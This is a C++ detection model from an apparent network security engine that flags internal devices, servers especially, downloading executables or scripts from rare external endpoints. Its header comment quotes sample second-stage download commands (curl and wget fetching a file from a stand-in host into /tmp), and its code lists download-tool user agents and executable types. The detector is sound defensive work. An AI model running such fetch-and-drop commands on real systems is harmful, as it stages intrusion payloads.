// network/executable-download
//
// Behaviour: an internal device downloads an executable or script (an ELF, a PE, a shell or
// Python script) from an external endpoint that is rare for the network: the second stage
// of an intrusion (`curl http://x/vim -o /tmp/vim`, `wget http://x/x`).
//
// Evidence, in bits of surprise (detect/score.h), added per download:
//   - what was fetched: content magic / MIME type of an executable or script (Zeek files.log
//     mime_type, Suricata magic, HTTP Content-Type: application/x-executable,
//     application/x-dosexec, application/x-elf, text/x-shellscript ...): 8; an executable or
//     script file name (.exe .dll .elf .sh .ps1 .py .bin .msi ...): 6; a bare name with no
//     extension fetched by a command-line client (curl, wget, python, Go, PowerShell): 6;
//   - a command-line client's user agent: +2;
//   - how rare the endpoint is: no other device contacts the address or host name: +6; one
//     other: +3; popular endpoints (a vendor's update CDN every device uses): +0;
//   - who downloads: a server (answered 3 or more external sources, and fetched executables
//     rarely before: fewer than 3) +5. Servers receive; workstations download all day;
//   - the IDS alerted on the endpoint in the last 24 h: +3 (+5 for severity 1-2).
// Why: each clue alone is common (developers curl scripts; Windows Update ships PEs); the
// conjunction on a rare endpoint, worse on a server, is the intrusion pattern. One breach per
// connection uid (HTTP and file records of one download do not both raise).
#include <algorithm>
#include <array>
#include <cctype>
#include <string_view>

#include <absl/container/flat_hash_map.h>

#include "detect/model.h"
#include "detect/network_stats.h"
#include "detect/score.h"
#include "learn/distinct.h"
#include "learn/novelty.h"

namespace vigil::detect {
namespace {

constexpr size_t kMaxDownloadDevices = 200'000;
constexpr size_t kRecentUids = 4096;  // uids already raised, remembered to de-duplicate

bool ContainsLower(std::string_view hay, std::string_view needle) {
  if (needle.size() > hay.size()) return false;
  for (size_t i = 0; i + needle.size() <= hay.size(); ++i) {
    size_t j = 0;
    while (j < needle.size() &&
           std::tolower(static_cast<unsigned char>(hay[i + j])) == needle[j])
      ++j;
    if (j == needle.size()) return true;
  }
  return false;
}

bool ExecutableMime(std::string_view m) {
  for (std::string_view k :
       {"application/x-executable", "application/x-dosexec", "application/x-elf",
        "application/x-sharedlib", "application/x-mach-o", "application/x-msdownload",
        "application/vnd.microsoft.portable-executable", "application/x-msi",
        "text/x-shellscript", "application/x-sh", "text/x-python", "text/x-perl",
        "application/x-powershell", "elf 32-bit", "elf 64-bit", "pe32", "ms-dos executable",
        "shell script", "python script"})
    if (ContainsLower(m, k)) return true;
  return false;
}

// The last path segment of a URI or file name, without query.
std::string_view BaseName(std::string_view s) {
  s = s.substr(0, s.find_first_of("?#"));
  size_t slash = s.find_last_of("/\\");
  return slash == std::string_view::npos ? s : s.substr(slash + 1);
}

bool ExecutableName(std::string_view base) {
  size_t dot = base.rfind('.');
  if (dot == std::string_view::npos) return false;
  std::string_view ext = base.substr(dot + 1);
  for (std::string_view k : {"exe", "dll", "elf", "sh", "ps1", "py", "bin", "msi", "scr", "bat",
                             "cmd", "vbs", "so", "jar", "pl", "run", "out"})
    if (ext.size() == k.size() && ContainsLower(ext, k)) return true;
  return false;
}

bool BareName(std::string_view base) {
  return !base.empty() && base.size() <= 32 && base.find('.') == std::string_view::npos;
}

bool ToolAgent(std::string_view ua) {
  for (std::string_view k : {"curl/", "wget/", "python-requests", "python-urllib", "python/",
                             "go-http-client", "powershell", "libwww-perl", "aria2"})
    if (ContainsLower(ua, k)) return true;
  return false;
}

class ExecutableDownloadModel final : public Model {
 public:
  ExecutableDownloadModel() {
    info_.name = "network/executable-download";
    info_.description =
        "An internal device downloaded an executable or script from an endpoint that is rare "
        "for the network; servers score higher than workstations.";
    info_.kinds = {EventKind::kHttp, EventKind::kFile, EventKind::kFlow};
    info_.mitre = {"T1105"};
    info_.default_threshold = 60;
    info_.params = {
        {"min_server_sources", 3, "Distinct external sources answered that make a device a server."},
        {"server_max_downloads", 3, "Earlier executable downloads above which a server is not unusual."},
    };
  }
  const ModelInfo& info() const override { return info_; }

  void Observe(const Event& e, ModelContext& ctx) override {
    if (!e.net.valid) return;
    if (e.kind == EventKind::kFlow) {
      LearnInbound(e);
      return;
    }
    if (!e.orig_internal || e.resp_internal) return;  // downloads from outside only
    int what_bits = 0;
    std::string what;
    bool tool = false;
    std::string_view host, name;
    if (const auto* h = e.As<HttpBody>()) {
      host = h->host;
      tool = ToolAgent(h->user_agent);
      name = !h->resp_filenames.empty() ? h->resp_filenames : BaseName(h->uri);
      if (ExecutableMime(h->resp_mime_types)) {
        what_bits = 8;
        what = "content type " + std::string(h->resp_mime_types.substr(0, 80));
      } else if (ExecutableName(name)) {
        what_bits = 6;
        what = "file name '" + std::string(name.substr(0, 80)) + "'";
      } else if (tool && BareName(name) && h->method == "GET" && h->status_code >= 200 &&
                 h->status_code < 300 && h->response_body_len > 0) {
        // GET only: a client POSTing to /api/poll every minute is polling, not downloading.
        what_bits = 6;
        what = "extension-less file '" + std::string(name.substr(0, 80)) + "' fetched by " +
               std::string(h->user_agent.substr(0, 60));
      }
    } else if (const auto* f = e.As<FileBody>()) {
      if (f->is_orig) return;  // an upload
      name = BaseName(f->filename);
      if (ExecutableMime(f->mime_type)) {
        what_bits = 8;
        what = "content " + std::string(f->mime_type.substr(0, 80));
      } else if (ExecutableName(name)) {
        what_bits = 6;
        what = "file name '" + std::string(name.substr(0, 80)) + "'";
      }
    }
    if (what_bits == 0) return;
    // The same name from the same endpoint again is a routine fetch (an agent's polling, a
    // re-run script): only the first time counts.
    uint64_t fetch_key = learn::MixHash(
        learn::MixHash(e.net.orig_h.Hash(), host.empty() ? e.net.resp_h.Hash() : learn::HashValue(host)),
        learn::HashValue(name));
    if (!fetched_.Observe(fetch_key, e.time).is_new) return;

    Device& d = DeviceOf(e.net.orig_h);
    uint32_t earlier_downloads = d.downloads++;
    uint64_t uid_key = learn::HashValue(e.uid.empty() ? e.raw : e.uid);
    if (!e.uid.empty()) {
      if (std::find(recent_.begin(), recent_.end(), uid_key) != recent_.end()) return;
      recent_[recent_next_++ % kRecentUids] = uid_key;
    }
    if (ctx.learning()) return;

    const NetworkView& net = ctx.network();
    uint32_t by_addr = net.DevicesContacting(e.net.resp_h);
    uint32_t by_name = host.empty() ? by_addr : net.DevicesContactingName(host);
    uint32_t contacting = std::min(by_addr, by_name);
    double rarity = contacting <= 1 ? 6 : (contacting == 2 ? 3 : 0);
    bool server = d.inbound.count() >= static_cast<uint32_t>(ctx.param("min_server_sources")) &&
                  earlier_downloads < static_cast<uint32_t>(ctx.param("server_max_downloads"));
    const AlertEvidence ids = IdsAlertEvidence(net, e.net.resp_h, e.net.resp_h_text, e.time);
    double bits = what_bits + (tool ? 2 : 0) + rarity + (server ? 5 : 0) + ids.bits;

    Breach b;
    b.time = e.time;
    b.model = info_.name;
    b.score = ScoreFromBits(bits);
    b.entity = ToEntityInfo(e.entity);
    b.peer = ToEntityInfo(e.peer);
    std::string from = host.empty() ? std::string(e.net.resp_h_text)
                                    : std::string(host.substr(0, 120)) + " (" +
                                          std::string(e.net.resp_h_text) + ")";
    b.reasons.push_back(std::string(e.net.orig_h_text) + " downloaded an executable or script (" +
                        what + ") from " + from);
    b.reasons.push_back(contacting <= 1 ? std::string("no other device in the network talks to this endpoint")
                                        : std::to_string(contacting) +
                                              " devices in the network talk to this endpoint");
    if (server)
      b.reasons.push_back("the device behaves as a server (answered " +
                          std::to_string(d.inbound.count()) + (d.inbound.saturated() ? "+" : "") +
                          " external sources) and had downloaded " +
                          std::to_string(earlier_downloads) + " executables before");
    if (ids.bits > 0) b.reasons.push_back(ids.reason);
    b.events.push_back(MakeEventRef(e));
    b.mitre = info_.mitre;
    b.details = {{"what", what},
                 {"file", std::string(name.substr(0, 200))},
                 {"host", std::string(host.substr(0, 200))},
                 {"tool_user_agent", tool},
                 {"server", server},
                 {"devices_contacting", contacting},
                 {"ids_alerts", ids.alerts}};
    ctx.Emit(std::move(b));
  }

  void Save(learn::StateWriter& w) const override {
    w.U64(devices_.size());
    for (const auto& [k, d] : devices_) {
      w.U64(k);
      d.inbound.Save(w);
      w.U32(d.downloads);
    }
    fetched_.Save(w);
  }
  Status Load(learn::StateReader& r) override {
    devices_.clear();
    uint64_t n = r.Count(kMaxDownloadDevices);
    for (uint64_t i = 0; i < n && r.ok(); ++i) {
      Device& d = devices_[r.U64()];
      d.inbound.Load(r);
      d.downloads = r.U32();
    }
    fetched_.Load(r);
    return r.ok() ? Status::Ok() : Corrupt("executable-download state is truncated");
  }
  size_t MemoryUsage() const override {
    return devices_.capacity() * (sizeof(uint64_t) + sizeof(Device) + 1) + sizeof(recent_) +
           fetched_.MemoryUsage();
  }

 private:
  struct Device {
    learn::SmallDistinct inbound;
    uint32_t downloads = 0;
  };

  Device& DeviceOf(const IpAddr& a) {
    auto it = devices_.find(a.Hash());
    if (it != devices_.end()) return it->second;
    if (devices_.size() >= kMaxDownloadDevices) {
      overflow_ = Device{};
      return overflow_;
    }
    return devices_[a.Hash()];
  }

  void LearnInbound(const Event& e) {
    if (e.orig_internal || !e.resp_internal) return;
    const auto* f = e.As<FlowBody>();
    if (!f || (f->resp_pkts == 0 && f->resp_bytes == 0)) return;
    DeviceOf(e.net.resp_h).inbound.Add(DeviceFingerprint(e.net.orig_h));
  }

  ModelInfo info_;
  absl::flat_hash_map<uint64_t, Device> devices_;
  Device overflow_;
  learn::NoveltySet fetched_{1 << 16};  // (device, endpoint, name) fetched before
  std::array<uint64_t, kRecentUids> recent_{};
  size_t recent_next_ = 0;
};

}  // namespace

VIGIL_REGISTER_MODEL(ExecutableDownloadModel);

}  // namespace vigil::detect
